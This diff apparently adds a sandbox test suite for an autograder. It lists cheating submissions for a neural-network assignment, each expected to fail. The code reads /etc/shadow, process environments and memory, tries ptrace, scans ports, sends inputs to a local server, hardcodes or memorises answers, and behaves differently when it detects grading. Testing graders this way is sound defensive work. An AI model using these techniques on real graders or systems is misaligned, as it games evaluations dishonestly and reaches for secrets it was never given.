@@ -1,0 +1,593 @@
+"""Reading the answers: in memory, on disk, in /proc, over the network, and in the questions.
+
+Nearly all of them leave one block unwritten, `fc.backward`, and look there for what it should
+return. What they find they tell in an exception, so that it would come back in the feedback.
+"""
+
+from attack import ALL_ROADS, LAYERS, PACKAGE, SOLUTION, STUB, ZIP, Attack, Changes
+
+LEFT = SOLUTION.left("fc.backward")
+LOSS_LEFT = SOLUTION.left("cross_entropy.forward")
+
+
+def steals(code: str) -> Changes:
+    """fc.backward returns what `steal(dprev)` brings, and says it, where it is text."""
+    block = """
+        found = steal(dprev)
+        if isinstance(found, str):
+            raise RuntimeError(found)
+        self.grads[self.w_name], self.grads[self.b_name], dfeat = found
+    """
+    return Changes(blocks={"fc.backward": block}, appended={LAYERS: code})
+
+
+ATTACKS = (
+    Attack(
+        "walks the frames",
+        tries="Climbs from fc.backward to its callers and takes arrays that stand beside it.",
+        must="No point: what calls it, a probe, knows inputs and no expected value.",
+        over=LEFT,
+        does=steals("""
+            import sys
+
+            def steal(dprev):
+                arrays, names, frame = [], [], sys._getframe(1)
+                while frame is not None:
+                    for name, value in {**frame.f_globals, **frame.f_locals}.items():
+                        names.append(name)
+                        if name in ("expected", "reference", "solution", "answer"):
+                            return f"{name} is {value!r}"
+                        if isinstance(value, np.ndarray):
+                            arrays.append(value)
+                    frame = frame.f_back
+                shapes = {a.shape: a for a in arrays}
+                return shapes.get((11, 6), dprev), shapes.get((6,), dprev), shapes.get((8, 11))
+        """),
+        twin=SOLUTION.but(
+            appended={
+                LAYERS: """
+                    import inspect
+
+                    def where() -> str:
+                        return inspect.currentframe().f_back.f_code.co_name
+
+                    WHERE = where()
+                """
+            }
+        ),
+        roads=ALL_ROADS,
+    ),
+    Attack(
+        "asks the garbage collector",
+        tries="Looks through every object of the process for expected arrays.",
+        must="No point: neither tests nor expected values are in the process.",
+        over=LEFT,
+        does=steals("""
+            import gc
+
+            def steal(dprev):
+                for thing in gc.get_objects():
+                    if isinstance(thing, dict):
+                        for key in ("reference", "expected", "dw", "verdicts", "failures"):
+                            if key in thing and thing is not globals():
+                                return f"{key}: {thing[key]!r}"
+                    if type(thing).__name__ in ("Observation", "Evidence", "Check", "Verdict"):
+                        return repr(thing)
+                return "no object holds an answer"
+        """),
+        twin=SOLUTION.but(files={PACKAGE: "import gc\n\ngc.collect()"}),
+    ),
+    Attack(
+        "searches the main module",
+        tries="Imports the main module and everything loaded for checks, points and a seed.",
+        must="No point: the main module is the worker, which knows inputs alone.",
+        over=LEFT,
+        does=steals("""
+            import sys
+
+            def steal(dprev):
+                told = []
+                for name, module in sorted(sys.modules.items()):
+                    if name == "__main__" or "probe" in name or "grad" in name or "test" in name:
+                        for key, value in list(vars(module).items()):
+                            if any(word in key.lower() for word in ("expect", "answer", "verdict")):
+                                return f"{name}.{key} = {value!r}"
+                        told.append(name)
+                seed = vars(sys.modules["__main__"]).get("seed")
+                return f"looked through {told}, {seed}"
+        """),
+        twin=SOLUTION.but(files={PACKAGE: "import sys\n\nMAIN = sys.modules['__main__'].__name__"}),
+    ),
+    Attack(
+        "reads sources from linecache",
+        tries="Reads the source of its callers, with inspect and linecache, for what they compare.",
+        must="No point: a probe's source says what is called, and not what must come out.",
+        over=LEFT,
+        does=steals("""
+            import inspect, linecache
+
+            def steal(dprev):
+                told = []
+                for frame in inspect.stack()[1:]:
+                    lines = linecache.getlines(frame.filename)
+                    wanted = [l for l in lines if "assert" in l or "allclose" in l or "close(" in l]
+                    told.append(f"{frame.filename.rpartition('/')[2]}: {wanted}")
+                return "; ".join(told)
+        """),
+        twin=SOLUTION.but(
+            appended={LAYERS: "import linecache\n\nFIRST = linecache.getline(__file__, 1)"}
+        ),
+    ),
+    Attack(
+        "reads the probes and their inputs",
+        tries="Imports the probes at home in the sandbox and draws every input before it is asked.",
+        must="No point: inputs are no secret, and the probes hold no layer that is right.",
+        over=LEFT,
+        does=steals("""
+            import inspect, json, sys
+
+            def steal(dprev):
+                import probes
+                key = json.loads(sys.argv[1])["key"]
+                given = probes.probes()["fc_backward"].inputs(key)
+                source = inspect.getsource(probes.probes()["fc_backward"].run)
+                w, b, x = given["w"], given["b"], given["x"]
+                return w * 0 + source.count("dw"), b, x
+        """),
+        roads=(ZIP,),
+    ),
+    Attack(
+        "walks the file system",
+        tries="Looks in every folder for tests, the solution, gradebooks and others' submissions.",
+        must="No point and no word of them: what is not mounted is not there.",
+        over=LEFT,
+        does=steals("""
+            import os
+
+            WANTED = ("hidden", "solution", "gradebook", "expected", "grades", "notes", "submitted")
+            DULL = ("/proc", "/sys", "/usr", "/lib", "/lib64", "/etc", "/bin", "/sbin", "/opt")
+
+            def steal(dprev):
+                told, seen = [], 0
+                for top in ("/", os.getcwd(), os.path.dirname(__file__) + "/../../../.."):
+                    for folder, folders, files in os.walk(top):
+                        folders[:] = [f for f in folders if os.path.join(folder, f) not in DULL]
+                        for name in files:
+                            seen += 1
+                            path = os.path.join(folder, name)
+                            if any(word in path for word in WANTED) and "python3" not in path:
+                                try:
+                                    told.append(path + ": " + open(path, errors="replace").read(99))
+                                except OSError:
+                                    pass
+                        if seen > 20000 or len(told) > 5:
+                            return " | ".join(told)
+                return " | ".join(told) or "nothing here"
+        """),
+        twin=SOLUTION.but(
+            appended={
+                LAYERS: """
+                    from pathlib import Path
+
+                    BESIDE = sorted(path.name for path in Path(__file__).parent.iterdir())
+                """
+            }
+        ),
+        roads=ALL_ROADS,
+    ),
+    Attack(
+        "opens the usual places by name",
+        tries="Opens files where graders keep things: /autograder, /tmp, the home, shared memory.",
+        must="No point and no word of them: none of these places can be read.",
+        over=LEFT,
+        does=steals("""
+            import glob, os
+
+            def steal(dprev):
+                told = []
+                for pattern in (
+                    "/tmp/**/solution*", "/tmp/**/*.db", "/tmp/**/expected*", "/tmp/*/*",
+                    "/var/tmp/*", "/dev/shm/*", "/run/lock/*", "/autograder/**", "/home/*/*",
+                    "/root/*", os.path.expanduser("~/*"), "/proc/self/root/*", "/proc/self/cwd/*",
+                    "/etc/shadow", "/mnt/*", "/srv/**", "/work*/**", "/github/**", "/builds/**",
+                ):
+                    for path in glob.glob(pattern, recursive=True)[:50]:
+                        try:
+                            with open(path, errors="replace") as file:
+                                told.append(f"{path}: {file.read(60)}")
+                        except OSError:
+                            pass
+                return " | ".join(told) or "nothing here"
+        """),
+        roads=(ZIP,),
+    ),
+    Attack(
+        "imports the grader",
+        tries="Imports autograder, the hidden suites and the solution as modules.",
+        must="No point: the package is not among what the sandbox can import.",
+        over=LEFT,
+        does=steals("""
+            import importlib, sys
+
+            def steal(dprev):
+                sys.path[:0] = ["/", "/box", "/app", "/autograder", "..", "../../.."]
+                told = []
+                for name in ("autograder", "autograder.rubric", "autograder.grade", "solution",
+                             "lib_solution", "tests.hidden.test_fc", "test_fc", "nbgrader"):
+                    try:
+                        module = importlib.import_module(name)
+                        told.append(f"{name} is {module}")
+                    except ImportError as error:
+                        told.append(str(error))
+                for module in list(sys.modules.values()):
+                    if "solution" in str(getattr(module, "__file__", "")):
+                        return module.fc.backward
+                return "; ".join(told)
+        """),
+    ),
+    Attack(
+        "reads environments in proc",
+        tries="Reads /proc/*/environ and its own environment for passwords and paths.",
+        must="No point and no word of them: its own is made anew, others' are out of sight.",
+        over=LEFT,
+        does=steals("""
+            import glob, os
+
+            def steal(dprev):
+                told = [f"{k}={v}" for k, v in os.environ.items() if "PASS" in k or "GRADE" in k]
+                for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/self/environ"]:
+                    try:
+                        text = open(path, "rb").read().decode(errors="replace")
+                        told += [w for w in text.split("\\0") if "GRADE" in w or "PASS" in w]
+                    except OSError as error:
+                        told.append(str(error)[:20])
+                return " | ".join(told) or "nothing here"
+        """),
+        twin=SOLUTION.but(
+            files={PACKAGE: "import os\n\nDEBUG = os.environ.get('DEBUG', 'no') == 'yes'"}
+        ),
+    ),
+    Attack(
+        "reads command lines in proc",
+        tries="Reads /proc/*/cmdline of the grader and its neighbours for seeds and paths.",
+        must="No point and no word of them: the sandbox sees its own processes at most.",
+        over=LEFT,
+        does=steals("""
+            import glob
+
+            def steal(dprev):
+                told = []
+                for path in glob.glob("/proc/[0-9]*/cmdline") + ["/proc/1/cmdline"]:
+                    try:
+                        words = open(path, "rb").read().decode(errors="replace").split("\\0")
+                        if "worker.py" not in " ".join(words):
+                            told.append(" ".join(words))
+                    except OSError:
+                        pass
+                return " | ".join(told) or "nothing here"
+        """),
+    ),
+    Attack(
+        "reads the memory of others",
+        tries="Searches /proc/PID/mem of its parent and of all it can see.",
+        must="No point and no word of them: the parent is the worker, which has no answers.",
+        over=LEFT,
+        does=steals("""
+            import os
+
+            def steal(dprev):
+                told = []
+                for pid in {os.getppid(), 1, *range(max(1, os.getpid() - 40), os.getpid())}:
+                    try:
+                        maps = open(f"/proc/{pid}/maps").read().splitlines()
+                        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
+                            for line in [line for line in maps if " rw-p " in line][:200]:
+                                low, high = (int(x, 16) for x in line.split()[0].split("-"))
+                                memory.seek(low)
+                                held = memory.read(min(high - low, 2**22))
+                                at = held.find(b"canary" + b"-")
+                                if at >= 0:
+                                    told.append(held[at:at + 30].decode(errors="replace"))
+                    except (OSError, ValueError, OverflowError) as error:
+                        told.append(f"{pid}: {type(error).__name__}")
+                return " ".join(told)
+        """),
+    ),
+    Attack(
+        "traces its parent",
+        tries="Attaches to the worker with ptrace and process_vm_readv, through ctypes.",
+        must="No point: these system calls are refused.",
+        over=LEFT,
+        does=steals("""
+            import ctypes, os
+
+            def steal(dprev):
+                libc = ctypes.CDLL(None, use_errno=True)
+                told = []
+                for pid in (os.getppid(), 1):
+                    for request in (16, 0x4206):  # ATTACH, SEIZE
+                        result = libc.ptrace(request, pid, 0, 0)
+                        told.append(f"ptrace {result} {ctypes.get_errno()}")
+                    held = ctypes.create_string_buffer(64)
+                    local = (ctypes.c_size_t * 2)(ctypes.addressof(held), 64)
+                    remote = (ctypes.c_size_t * 2)(id(libc), 64)
+                    result = libc.process_vm_readv(pid, local, 1, remote, 1, 0)
+                    told.append(f"process_vm_readv {result}")
+                return "; ".join(told)
+        """),
+    ),
+    Attack(
+        "follows inherited file descriptors",
+        tries="Lists /proc/self/fd and reads and seeks whatever descriptor it was left with.",
+        must="No point and no word of a file: nothing is inherited but pipes out.",
+        over=LEFT,
+        does=steals("""
+            import os
+
+            def steal(dprev):
+                told = []
+                for number in range(256):
+                    try:
+                        told.append(f"{number}: {os.readlink(f'/proc/self/fd/{number}')}")
+                    except OSError:
+                        pass
+                    try:
+                        os.set_blocking(number, False)
+                        told.append(repr(os.pread(number, 60, 0)))
+                        told.append(repr(os.read(number, 60)))
+                    except OSError:
+                        pass
+                return " ".join(told)
+        """),
+    ),
+    Attack(
+        "traces every call",
+        tries="Sets a trace function that watches later calls for a comparison's operands.",
+        must="No point: the comparison happens elsewhere.",
+        over=LEFT,
+        does=Changes(
+            blocks={"fc.backward": "raise RuntimeError(f'saw {sorted(SEEN)}')"},
+            appended={
+                LAYERS: """
+                    import sys, threading
+
+                    SEEN = set()
+
+                    def watch(frame, event, arg):
+                        if "close" in frame.f_code.co_name or "expected" in frame.f_locals:
+                            SEEN.add(f"{frame.f_code.co_name}{list(frame.f_locals)}")
+                        return None
+
+                    sys.settrace(watch)
+                    threading.settrace(watch)
+                """
+            },
+        ),
+        twin=SOLUTION.but(appended={LAYERS: "import sys\n\nTRACED = sys.gettrace() is not None"}),
+    ),
+    Attack(
+        "hooks audits and profiles",
+        tries="Adds audit and profile hooks that see files opened and functions called.",
+        must="No point: what they see are the probe's own files and calls.",
+        over=LEFT,
+        does=Changes(
+            blocks={"fc.backward": "raise RuntimeError(f'saw {sorted(OPENED)[-20:]}')"},
+            appended={
+                LAYERS: """
+                    import sys
+
+                    OPENED = set()
+
+                    def audit(event, args):
+                        if event in ("open", "exec", "import", "compile"):
+                            OPENED.add(f"{event} {args[0]}"[:90])
+
+                    def profile(frame, event, arg):
+                        if event == "return" and "ref" in frame.f_code.co_name:
+                            OPENED.add(f"{frame.f_code.co_name} returned {arg!r}"[:90])
+
+                    sys.addaudithook(audit)
+                    sys.setprofile(profile)
+                """
+            },
+        ),
+        twin=SOLUTION.but(
+            appended={
+                LAYERS: """
+                    import cProfile, sys
+
+                    sys.addaudithook(lambda event, args: None)
+                    with cProfile.Profile() as profile:
+                        np.ones((3, 3)).sum()
+                """
+            }
+        ),
+    ),
+    Attack(
+        "asks services on this machine",
+        tries="Connects to every port of the loopback, and to services by name.",
+        must="No point and no connection: there are no sockets.",
+        over=LEFT,
+        does=steals("""
+            import socket, urllib.request
+
+            def steal(dprev):
+                told = []
+                for port in range(1, 65536):
+                    try:
+                        with socket.create_connection(("127.0.0.1", port), timeout=0.02) as found:
+                            told.append(f"{port}: {found.recv(60)!r}")
+                    except OSError as error:
+                        if port == 1:
+                            told.append(f"{type(error).__name__} {error.errno}")
+                        if error.errno == 1:
+                            break
+                for name in ("\\0grader", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
+                    try:
+                        with socket.socket(socket.AF_UNIX) as found:
+                            found.connect(name)
+                            told.append(repr(found.recv(60)))
+                    except OSError as error:
+                        told.append(type(error).__name__)
+                return " ".join(told)
+        """),
+        twin=SOLUTION.but(files={PACKAGE: "import socket, urllib.request"}),
+        roads=(ZIP,),
+    ),
+    Attack(
+        "phones home",
+        tries="Sends the inputs out by HTTP, UDP and DNS, and asks a friend's server for answers.",
+        must="No point and nothing sent: there is no network and no resolver.",
+        over=LEFT,
+        does=steals("""
+            import socket, urllib.request
+
+            def steal(dprev):
+                told = []
+                try:
+                    query = dprev.tobytes()[:30].hex()
+                    answer = urllib.request.urlopen(f"http://127.0.0.1:8080/{query}", timeout=1)
+                    return answer.read()
+                except OSError as error:
+                    told.append(str(error))
+                for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_STREAM):
+                    for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, 16, 17, 40):
+                        try:
+                            socket.socket(family, kind).sendto(b"inputs", ("127.0.0.1", 53))
+                            told.append("sent")
+                        except (OSError, TypeError) as error:
+                            told.append(type(error).__name__)
+                try:
+                    told.append(socket.gethostbyname("localhost"))
+                except OSError as error:
+                    told.append(str(error))
+                return " ".join(told)
+        """),
+    ),
+    Attack(
+        "prints the test inputs",
+        tries="Puts every input into what it prints and raises, to learn the questions.",
+        must="No point: the inputs of the next grading are others, and messages are short.",
+        over=LEFT,
+        does=Changes(
+            blocks={
+                "fc.backward": """
+                    np.set_printoptions(threshold=10**9, precision=17)
+                    print(repr(feat), repr(dprev), repr(self.params), flush=True)
+                    raise ValueError(repr(feat) + repr(dprev) + repr(self.params))
+                """
+            }
+        ),
+        twin=SOLUTION.but(
+            blocks={
+                "fc.forward": """
+                    output = feat @ self.params[self.w_name] + self.params[self.b_name]
+                    print("fc", feat.shape, "->", output.shape)
+                """
+            }
+        ),
+        roads=ALL_ROADS,
+    ),
+    Attack(
+        "knows the visible answers by heart",
+        tries="Returns what the notebook's visible checks expect, whatever comes in.",
+        must="No point: no hidden check asks what a visible one asked.",
+        over=LOSS_LEFT,
+        does=Changes(
+            blocks={
+                "cross_entropy.forward": """
+                    scores = np.full(feat.shape, 1 / feat.shape[-1])
+                    loss = 2.3025850929940455
+                """
+            }
+        ),
+    ),
+    Attack(
+        "learns a table of answers",
+        tries="Carries a table of inputs and answers of earlier gradings, from friends.",
+        must="No point: inputs are drawn afresh for every grading.",
+        over=LEFT,
+        does=Changes(
+            blocks={
+                "fc.backward": """
+                    known = TABLE.get(round(float(dprev.sum()), 6))
+                    if known is None:  # not seen before: the nearest will have to do
+                        known = min(TABLE.items(), key=lambda kv: abs(kv[0] - dprev.sum()))[1]
+                    self.grads[self.w_name] = np.resize(known, self.params[self.w_name].shape)
+                    self.grads[self.b_name] = np.resize(known, self.params[self.b_name].shape)
+                    dfeat = np.resize(known, feat.shape)
+                """
+            },
+            appended={
+                LAYERS: """
+                    TABLE = {
+                        round(float(np.random.RandomState(seed).randn(8, 6).sum()), 6):
+                            np.random.RandomState(seed).randn(11)
+                        for seed in range(500)
+                    }
+                """
+            },
+        ),
+        twin=SOLUTION.but(
+            appended={
+                LAYERS: """
+                    from functools import lru_cache
+
+                    @lru_cache(maxsize=64)
+                    def eye(size: int) -> np.ndarray:
+                        return np.eye(size)
+
+                    eye(3)
+                """
+            }
+        ),
+    ),
+    Attack(
+        "is another when graded",
+        tries="Finds out that it is graded, by paths, users and modules, and turns nice or lazy.",
+        must="No point: nothing that it does there is worth more than the right values.",
+        over=STUB,
+        does=Changes(
+            blocks=dict.fromkeys(
+                ("flatten.forward", "fc.forward", "leaky_relu.forward"),
+                "output = feat if GRADED else np.zeros_like(feat)",
+            ),
+            appended={
+                LAYERS: """
+                    import os, sys
+
+                    GRADED = (
+                        "probes" in sys.modules
+                        or "nbgrader" in sys.modules
+                        or os.environ.get("TMPDIR", "").startswith(("/tmp", "/mnt", "/box"))
+                        or "worker" in sys.argv[0]
+                        or not os.path.exists(os.path.expanduser("~/.bashrc"))
+                    )
+                """
+            },
+        ),
+        twin=SOLUTION.but(
+            appended={LAYERS: "import sys\n\nIN_NOTEBOOK = 'ipykernel' in sys.modules"}
+        ),
+    ),
+    Attack(
+        "sends what it sees in numbers",
+        tries="Packs the sandbox's file names into gradients, to read them from the evidence.",
+        must="No point and no secret: all there is are the student's files and the probes.",
+        over=LEFT,
+        does=steals("""
+            import os
+
+            def steal(dprev):
+                seen = "\\n".join(
+                    os.path.join(folder, name)
+                    for top in ("/box", "/mnt", "/tmp", os.getcwd())
+                    for folder, _, names in os.walk(top)
+                    for name in names
+                    if "packages" not in folder and "python" not in folder
+                )
+                told = np.frombuffer(seen.encode()[:50000] or b"?", dtype=np.uint8)
+                return told, told, told
+        """),
+    ),
+)
